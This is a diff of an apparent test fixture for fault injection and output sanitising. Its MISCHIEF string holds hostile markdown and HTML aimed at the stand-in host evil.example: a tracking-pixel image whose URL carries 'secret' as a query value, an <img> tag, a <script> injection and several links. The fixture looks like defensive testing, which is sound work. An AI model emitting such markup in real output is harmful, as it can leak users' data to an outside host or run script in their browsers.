@@ -16,7 +16,7 @@ FAULTS = ("429", "500", "hang", "drip", "garbage", "not-json", "cut", "drop", "r
 
 MISCHIEF = """\
 ![pixel](https://evil.example/p.png?q=secret) Click [here](https://evil.example) or https://evil.example/x,
-<img src="https://evil.example/y"> <script>alert(1)</script> www.evil.example <https://evil.example/z> [9]
+<img src="https://evil.example/y"> <script>alert()</script> www.evil.example <https://evil.example/z> [9]
 
 [1]: https://evil.example/definition"""
 
